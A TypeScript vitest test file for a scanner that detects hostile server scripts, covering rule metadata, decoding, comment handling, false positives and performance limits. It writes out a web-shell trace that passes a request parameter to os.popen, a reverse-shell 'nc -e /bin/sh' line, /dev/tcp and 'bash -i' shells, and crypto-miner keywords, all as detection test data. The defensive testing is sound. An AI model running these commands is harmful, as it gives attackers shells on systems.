import { describe, expect, it } from 'vitest'
import { scriptLinesMax } from '../../../../src/domain/lineEngineLimits.ts'
import { parseReason } from '../../../../src/domain/reason.ts'
import { analyseShell } from '../../../../src/engine/script/shell/analyseShell.ts'
import { shellRules } from '../../../../src/engine/script/shell/shellRules.ts'
import { hostileScripts } from './scriptHostile.ts'

function found(text: string): readonly number[] {
  return analyseShell(text).hits.map((hit) => hit.rule)
}

describe('rules of scripts', () => {
  it('have a number of their own, a reason in the grammar and a tier that follows from it', () => {
    expect(new Set(shellRules.map(({ rule }) => rule)).size).toBe(shellRules.length)
    for (const { rule, reason, tier } of shellRules) {
      expect(parseReason(reason)).toMatchObject({ rule })
      expect(rule >= 2700 && rule <= 2799).toBe(true)
      expect(tier).toBe(reason.startsWith('HF-SUSP') ? 'suspicious' : 'malicious')
    }
  })

  it('are each shown by an example', () => {
    const shown = new Set([...hostileScripts.map(([rule]) => rule), 2708])
    expect(shellRules.map(({ rule }) => rule).filter((rule) => !shown.has(rule))).toEqual([])
  })
})

describe('a script against the server', () => {
  it.each(hostileScripts)('%i: %s', (rule, _name, text) => {
    expect(found(text)).toContain(rule)
    expect(found(text.replaceAll('\n', '\r\n'))).toContain(rule)
  })

  it.each(hostileScripts)('%i: %s, told by whole lines', (_rule, _name, text) => {
    for (const { spans, trace, excerpt } of analyseShell(text).hits) {
      expect(spans.length).toBeGreaterThan(0)
      for (const { start, end } of spans) {
        expect(start === 0 || text[start - 1] === '\n').toBe(true)
        expect(end === text.length || text[end - 1] === '\n').toBe(true)
      }
      for (const step of trace) expect(step).toMatch(/^[\x20-\x7e]{1,80}$/)
      expect(excerpt).not.toBe('')
    }
  })

  it.each(hostileScripts)('%i: %s, and not when it is a page or PHP', (_rule, _name, text) => {
    expect(found(`<html><pre>\n${text}</pre></html>`)).toEqual([])
    expect(found(`text\n<?php /*\n${text}*/`)).toEqual([])
  })

  it.each(hostileScripts.filter(([rule]) => rule !== 2708))(
    '%i: %s, and not in a comment',
    (_rule, _name, text) => {
      const commented = text
        .split('\n')
        .map((line) => (line === '' || line.startsWith('#') ? line : `# ${line}`))
      if (!text.startsWith('#include')) expect(found(commented.join('\n'))).toEqual([])
    },
  )

  it('shows what it decodes as a layer', () => {
    const [, , text] = hostileScripts.find(([rule]) => rule === 2704)!
    const { layers } = analyseShell(text)
    expect(layers.map((layer) => [layer.names, layer.text])).toEqual([
      [['base64'], 'echo hf_test; echo hf_test; echo hf_test'],
    ])
    expect(text.slice(layers[0]!.origin.start, layers[0]!.origin.end)).toContain('base64')
  })

  it('shows the way of a value from the request', () => {
    const [, , text] = hostileScripts.find(([rule, name]) => rule === 2701 && name === 'Python')!
    const hit = analyseShell(text).hits.find(({ rule }) => rule === 2701)!
    expect(hit.trace).toEqual(['cmd = form.getvalue("cmd")', 'print(os.popen(cmd).read())'])
  })
})

describe('a script of an owner', () => {
  it.each([
    [
      'a test of a port',
      '#!/bin/bash\ntimeout 1 bash -c "</dev/tcp/localhost/3306" && echo up\nnc -z localhost 80\n',
    ],
    [
      'an installer',
      '#!/bin/sh\ncurl -fsSL https://get.example.com/install.sh | sh\nwget -q https://example.com/a.tar.gz\ntar xf a.tar.gz\n',
    ],
    ['an installer of an own network', '#!/bin/sh\ncurl http://127.0.0.1:8080/setup | sh\n'],
    [
      'a download',
      '#!/bin/sh\nwget -O /tmp/list.txt http://example.com/list.txt\nsort /tmp/list.txt | uniq > /tmp/sorted\n',
    ],
    [
      'a table of cron',
      '# m h dom mon dow command\nMAILTO=root\n*/5 * * * * wget -q -O - https://www.example.com/wp-cron.php?doing_wp_cron >/dev/null 2>&1\n0 3 * * 1-5 /usr/bin/php /srv/site/cron.php\n@daily find /tmp -mtime +7 -delete\n',
    ],
    [
      'a decoded certificate',
      `#!/bin/sh\necho ${Buffer.from('a certificate of some length').toString('base64')} | base64 -d > /etc/ssl/a.pem\n`,
    ],
    [
      'a CGI script',
      '#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $name = $q->param("name");\nopen(F, "<", "/srv/data/$name.txt");\nmy $list = `ls /srv/data`;\nsystem("/usr/bin/convert", $name);\nmy $cmd = "grep -c " . quotemeta($name);\nprint `$cmd`;\n',
    ],
    [
      'a server',
      '#!/usr/bin/python3\nimport socket, subprocess\ns = socket.socket()\ns.bind(("", 80))\ndata = s.recv(1024)\nsubprocess.run(["/usr/bin/logger", data])\ncmd = ["git", "pull"]\nsubprocess.call(cmd)\n',
    ],
    [
      'a web application',
      'from flask import request\nname = request.args.get("name")\ntotal = evaluate(name)\nitems = Item.query.filter_by(name=name)\n',
    ],
    [
      'a chat program',
      '#!/usr/bin/perl\nprint $s "NICK me\\r\\nJOIN #perl\\r\\n";\nprint $s "PRIVMSG #perl :hello\\r\\n";\n',
    ],
    ['a ping', '#!/usr/bin/perl\nuse Socket qw(SOCK_DGRAM);\nsend($s, $packet, 0, $to) while $count--;\n'],
    [
      'a deployment',
      '#!/bin/bash\nset -e\nHISTSIZE=1000\nln -s /srv/shared/wp-config.php /srv/site/wp-config.php\nchmod +x deploy.sh\n./deploy.sh\n',
    ],
    ['a module', 'import base64\nkey = base64.b64decode(text)\nexec(compile(source, name, "exec"), scope)\n'],
    ['a test of a feature', '#!/usr/bin/perl\nif (!eval { pack "Q", 1 }) { die }\n'],
    [
      'prose',
      'To test the connection, run nc -e /bin/sh host 1 or look at /dev/tcp/host/80.\nbash -i is a shell.\n',
    ],
    ['a list of words', 'PRIVMSG NICK JOIN udpflood stratum+tcp:// xmrig -o\n'],
    ['nothing', ''],
  ])('%s', (_name, text) => {
    expect(found(text)).toEqual([])
  })
})

describe('limits', () => {
  it('says that it did not read all of an endless script', () => {
    const text = `#!/bin/sh\n${'curl x\n'.repeat(scriptLinesMax + 1)}`
    expect(analyseShell(text).limits).toEqual(['engine-limit'])
  })

  it.each([
    ['pipes', `#!/bin/sh\ncurl http://h/${'|'.repeat(500_000)}`],
    ['addresses', `#!/bin/sh\n${'curl http://1.2.3.4/a ; '.repeat(20_000)}`],
    ['one long word', `#!/bin/sh\ncurl ${'a'.repeat(500_000)}`],
    ['assignments', `#!/usr/bin/perl\n${'$a = $b; $b = $ENV{QUERY_STRING};\n'.repeat(20_000)}`],
    ['backticks', `#!/usr/bin/perl\nparam(\n${'`$a'.repeat(200_000)}`],
    ['opens', `#!/usr/bin/perl\nparam(\n${'open( a , "'.repeat(100_000)}`],
    ['dots', `#!/bin/sh\ncurl ${'a.'.repeat(200_000)}`],
    ['links', `#!/bin/sh\n${'ln -s a '.repeat(100_000)}`],
    ['base64', `#!/bin/sh\n${`base64 -d ${'A'.repeat(30)} `.repeat(20_000)}`],
  ])('takes its time linearly: %s', (_name, text) => {
    const { hits } = analyseShell(text)
    for (const hit of hits) expect(hit.spans.length).toBeGreaterThan(0)
  })
})
